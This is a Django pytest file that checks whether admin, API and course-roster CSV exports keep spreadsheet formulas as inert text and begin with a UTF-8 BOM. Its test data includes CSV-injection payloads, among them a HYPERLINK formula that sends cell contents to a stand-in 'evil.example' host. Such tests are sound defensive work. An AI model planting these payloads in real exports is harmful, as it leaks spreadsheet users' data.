"""Every CSV download: formulas stay text and the file opens in Excel in Japan (UTF-8 with a BOM)."""

import csv
import io

import pytest

from accounts.services import counselor_create
from core.csv_export import csv_text
from courses.services import enrollment_create
from tests.accounts.factories import PASSWORD
from tests.courses.factories import CourseFactory
from tests.newsletter.factories import ConsentFactory, SubscriberFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"開く")', "+1+2", "-2-3", "@SUM(A1)", "\tx", "\rx"]


def rows_of(raw: bytes) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.fixture
def hostile_subscriber():
    subscriber = SubscriberFactory(email="hostile@example.com", name=HOSTILE[0], consent=None)
    ConsentFactory(subscriber=subscriber, user_agent=HOSTILE[3])
    return subscriber


def test_the_admin_subscriber_export_keeps_formulas_as_text_and_starts_with_a_bom(client, hostile_subscriber):
    client.force_login(counselor_create(email="c@example.com", password=PASSWORD))
    response = client.post(
        "/admin/newsletter/subscriber/",
        {"action": "export_csv", "_selected_action": [hostile_subscriber.pk], "index": 0},
    )

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = rows_of(b"".join(response.streaming_content))
    assert_no_formula(rows)
    assert f"'{HOSTILE[0]}" in rows[1]
    assert f"'{HOSTILE[3]}" in rows[1]


def test_the_api_subscriber_export_keeps_formulas_as_text(counselor_api, hostile_subscriber):
    response = counselor_api.get("/api/v1/newsletter/subscribers/export/?format=csv")

    rows = rows_of(b"".join(response.streaming_content))
    assert_no_formula(rows)
    assert f"'{HOSTILE[0]}" in rows[1]


def test_the_course_roster_keeps_formulas_as_text(counselor, counselor_api):
    course = CourseFactory(counselor=counselor, capacity=10)
    names = HOSTILE[:4]  # enrollment trims leading tabs and line breaks from a name
    for number, name in enumerate(names):
        enrollment_create(course_id=course.pk, guest_name=name, guest_email=f"g{number}@example.com")

    response = counselor_api.get(f"/api/v1/courses/{course.pk}/roster/", {"format": "csv"})

    rows = rows_of(response.content)
    assert_no_formula(rows)
    assert {row[0] for row in rows[1:]} == {f"'{name}" for name in names}


def test_the_csv_helper_leaves_numbers_and_ordinary_text_alone():
    text = csv_text([[1, None, "山田 花子", "a-b"]], header=["n", "x", "name", "code"])
    assert text == "\ufeffn,x,name,code\r\n1,,山田 花子,a-b\r\n"
